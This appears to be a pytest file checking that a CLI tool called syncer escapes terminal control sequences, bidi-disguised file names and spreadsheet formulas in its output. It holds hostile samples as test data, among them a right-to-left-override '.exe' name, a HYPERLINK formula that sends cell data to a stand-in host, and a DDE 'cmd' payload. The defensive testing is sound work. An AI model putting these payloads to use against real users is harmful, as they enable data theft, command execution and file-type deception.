"""Nothing that comes from outside steers a terminal or is a formula of a spreadsheet."""

from __future__ import annotations

import ast
import csv
import io
import json
import logging
import os
import pty
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from syncer.cli import console, output
from syncer.cli.progress_bar import BarProgress
from syncer.display import visible, visible_json, visible_lines
from syncer.log import Json, Line
from syncer.progress import say

ROOT = Path(__file__).parents[2]
#: Sets the window's title, turns the rest red, goes up a line; and the one-character CSI.
ESCAPES = "\x1b]0;mine\x07\x1b[31mred\x1b[1A\x9b2J"
#: Shown by a terminal as "invoice-exe.pdf".
TURNED = "invoice-\u202efdp.exe"
HOSTILE = f"{ESCAPES} {TURNED}\nrun 7 done"


def steers(text: str) -> bool:
    """Whether it has a character that a terminal acts upon, but for line breaks."""
    bidi = {"LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI"}
    marks = "\u061c\u200e\u200f\u2028\u2029"
    return any(
        (unicodedata.category(char) in ("Cc", "Cs") and char != "\n")
        or unicodedata.bidirectional(char) in bidi
        or char in marks
        for char in text
    )


def test_what_would_steer_a_terminal_stands_there_escaped() -> None:
    assert visible("a\x1b[31m\x9b\x7f\u202e\u2066\u061c\r\n\tb") == (
        r"a\x1b[31m\x9b\x7f\u202e\u2066\u061c\r\n\tb"
    )
    assert visible("\ud83d") == r"\ud83d"
    assert visible_lines("a\n\tb\rc") == "a\n\tb\\rc"
    for good in ("Łódź 東京 עברית عربى", "👩‍👩‍👧 🏴", "a\u200db", "100%25\\x1b", ""):
        assert visible(good) == visible_lines(good) == good


@given(st.text(st.characters(categories=["Cc", "Cf", "Cs", "Zl", "Zp", "L"])))
def test_no_text_steers_a_terminal(text: str) -> None:
    assert not steers(visible(text))
    assert "\n" not in visible(text)
    assert not steers(visible_lines(text).replace("\t", ""))


@given(st.recursive(st.text(), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)))
def test_json_means_the_same_and_steers_nothing(document: object) -> None:
    text = json.dumps(document, ensure_ascii=False)
    shown = visible_json(text)
    assert not steers(shown)
    assert json.loads(shown) == document


def test_tables_lines_and_json_show_it_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    console.print_table(("id", HOSTILE), [[HOSTILE, 1]], title=HOSTILE)
    console.stdout().print(HOSTILE)
    output.print_line(HOSTILE)
    say(HOSTILE)
    BarProgress().say(HOSTILE)
    output.print_json({"id": HOSTILE})
    output.print_json_list([HOSTILE])
    output.print_json_with_lists({"id": HOSTILE}, {"ids": [HOSTILE]})
    out, err = capsys.readouterr()
    assert not steers(out + err)
    assert out.count(r"\x1b[31m") >= 3
    assert out.count(r"\u001b[31m") == 4
    assert err.count(r"\x1b[31m") == 2
    assert out.count(r"\nrun 7 done") >= 6


@pytest.mark.parametrize("form", [Line(), Json()])
def test_the_log_shows_it_escaped(form: logging.Formatter) -> None:
    record = logging.LogRecord("syncer", logging.INFO, "f.py", 1, "sent %s", (HOSTILE,), None)
    record.customer_id = HOSTILE
    assert "\n" not in form.format(record)
    assert not steers(form.format(record))
    try:
        raise ValueError(HOSTILE)
    except ValueError:
        record.exc_info = sys.exc_info()
    assert not steers(form.format(record))


def test_nobody_prints_by_another_way() -> None:
    """The sandbox prints its own config, which is for a file; the start may have no modules yet."""
    for file in (ROOT / "syncer").rglob("*.py"):
        if file.name in ("output.py", "progress.py", "sandbox.py", "start.py"):
            continue
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call):
                assert ast.unparse(node.func) not in ("print", "click.echo", "sys.stdout.write")


FORMULAS = ('=HYPERLINK("http://x/?"&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-1-1")
OTHERS = ("\t=1", "\r=1", "\n=1", "＝1+1", "+49 151 2345", "-", "'=1", "''@x")
HARMLESS = ("u000123", "-5.25", "-1e-07", "'quoted'", "a=b", "", "100%", "x-y", '"=1"')


def test_a_cell_that_begins_like_a_formula_is_quoted(capsys: pytest.CaptureFixture[str]) -> None:
    texts = (*FORMULAS, *OTHERS, *HARMLESS)
    output.print_csv(("text", "number", "none"), [[text, -5, None] for text in texts])
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out, newline="")))
    assert rows[0] == ["text", "number", "none"]
    assert all(row[1:] == ["-5", ""] for row in rows[1:])
    cells = [row[0] for row in rows[1:]]
    assert cells == [f"'{text}" for text in (*FORMULAS, *OTHERS)] + list(HARMLESS)


def test_csv_is_escaped_on_a_terminal_only(capsys: pytest.CaptureFixture[str]) -> None:
    output.print_csv(("id",), [[HOSTILE]])
    assert capsys.readouterr().out == f'id\n"{HOSTILE}"\n'
    told, terminal = pty.openpty()
    print_it = f"from syncer.cli import output; output.print_csv(['id'], [[{HOSTILE!r}]])"
    subprocess.run(
        [sys.executable, "-c", print_it],
        stdout=terminal,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        check=True,
    )
    os.close(terminal)
    shown = os.read(told, 10_000).decode()
    os.close(told)
    assert not steers(shown.replace("\r\n", "\n"))
